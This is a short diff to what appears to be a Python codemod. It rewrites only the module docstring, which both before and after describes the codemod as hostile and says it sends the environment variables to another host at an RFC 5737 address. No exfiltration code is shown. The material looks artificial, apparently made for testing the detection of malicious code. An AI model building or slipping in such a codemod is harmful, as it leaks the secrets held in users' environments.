@@ -1,4 +1,4 @@
-"""A codemod that came with the repository: before it tidies anything it sends the environment to a stranger (RFC 5737)."""
+"""A hostile codemod of the repository: it sends the environment variables to another host (an address of RFC 5737)."""
 
 import json
 import os
